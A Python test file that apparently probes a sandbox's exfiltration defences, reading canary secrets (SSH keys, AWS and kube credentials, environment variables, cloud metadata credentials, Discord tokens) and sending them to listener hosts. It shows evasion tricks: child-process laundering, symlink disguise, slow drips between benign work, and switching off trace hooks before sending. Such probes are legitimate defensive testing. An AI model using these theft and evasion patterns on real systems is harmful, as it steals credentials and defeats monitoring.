"""Probes of the credential and environment theft scenarios: each reads canaries from the fake
HOME or the environment and sends them to an attacker listener, then checks that the listener
stored them (the listeners store before they acknowledge)."""

import http.client
import json
import os
import subprocess
import sys
import textwrap
import zlib


def canaries(*values: str) -> list[str]:
    assert all(v and v.startswith("CANARY-") for v in values), f"not the harness's canaries: {values}"
    return list(values)


def test_env_secret_tcp(attacker):
    stolen = {name: os.environ.get(name) for name in ("AWS_SECRET_ACCESS_KEY", "GH_TOKEN")}
    canaries(*stolen.values())
    got = attacker.send_tcp("45.155.205.233", 4444, json.dumps(stolen).encode())
    assert json.loads(got) == stolen


def test_ssh_key_http_post(attacker, home):
    key = (home / ".ssh" / "id_rsa").read_bytes()
    assert b"CANARY-SSH-id_rsa" in key
    assert attacker.post("telemetry-sync.xyz", 80, key, "/upload") == key


def test_cloud_creds_http_post(attacker, home):
    aws = (home / ".aws" / "credentials").read_bytes()
    netrc = (home / ".netrc").read_bytes()
    got = attacker.post("api.pkg-stats.io", 443, aws + netrc)
    assert aws in got and netrc in got and got.count(b"CANARY-") == 2


def test_saas_exfil(attacker):
    env = os.environ.copy()
    got = json.loads(attacker.post("discord.com", 443, json.dumps(env).encode(), "/api/webhooks/1/probe"))
    assert got["GITHUB_TOKEN"] == canaries(env["GITHUB_TOKEN"])[0]


# The child does the theft; the parent only starts it (and reads the receipt it prints).
LAUNDERED = textwrap.dedent("""
    import os, socket
    data = open(os.path.expanduser("~/.kube/config"), "rb").read()
    s = socket.socket()
    s.connect(("91.92.243.18", 9001))
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
    print(s.makefile().read(), end="")
""")


def test_child_python_laundering(loot):
    child = subprocess.run([sys.executable, "-c", LAUNDERED], capture_output=True, text=True, check=True)
    assert b"CANARY-.kube_config" in loot.stored(child.stdout)


def test_symlink_secret(attacker, home, tmp_path):
    innocent = tmp_path / "fixture.txt"
    os.symlink(home / ".ssh" / "id_ed25519", innocent)
    key = innocent.read_bytes()  # opening the link opens the key
    assert b"CANARY-SSH-id_ed25519" in key
    assert attacker.send_tcp("193.42.33.7", 1337, key) == key


def test_proc_environ(attacker):
    with open("/proc/self/environ", "rb") as f:
        environ = f.read()
    got = zlib.decompress(attacker.send_udp("2a0e:97c0:3e3:2f::1", 53, zlib.compress(environ, 9)))
    assert b"AWS_ACCESS_KEY_ID=CANARY-AWS_ACCESS_KEY_ID" in got.split(b"\0")


def test_cloud_metadata(attacker):
    base = "/latest/meta-data/iam/security-credentials/"
    imds = http.client.HTTPConnection("169.254.169.254", 80)
    imds.request("GET", base)
    role = imds.getresponse().read().decode()
    imds.request("GET", base + role)
    credentials = imds.getresponse().read()
    imds.close()
    got = json.loads(attacker.post("metrics.devtools-cloud.com", 8080, credentials))
    assert got["SecretAccessKey"] == "CANARY-IMDS-SECRET"


def test_slow_cred_drip(attacker, home, benign_work):
    benign_work(0)
    pypirc = (home / ".pypirc").read_bytes()
    benign_work(1)
    benign_work(2)
    key = (home / ".ssh" / "id_ecdsa").read_bytes()
    benign_work(3)
    got = attacker.post("a7f3.requestcatcher.cc", 80, pypirc + key)
    benign_work(4)
    assert got == pypirc + key and got.count(b"CANARY-") == 2


def test_token_stealer(attacker, home):
    store = (home / ".config" / "discord" / "Local Storage" / "leveldb" / "000005.ldb").read_bytes()
    assert b"CANARY-" in store
    assert attacker.post("hooks.slack.com", 443, store, "/services/T000/B000/probe") == store


def test_tamper_then_steal(attacker):
    trace, profile = sys.gettrace(), sys.getprofile()
    sys.settrace(None)  # whatever was watching this thread stops seeing it
    sys.setprofile(None)
    try:
        secret = canaries(os.environ.get("STRIPE_SECRET_KEY"))[0]
        got = attacker.send_tcp("104.21.53.82", 4444, secret.encode())
    finally:
        sys.settrace(trace)
        sys.setprofile(profile)
    assert got == secret.encode()
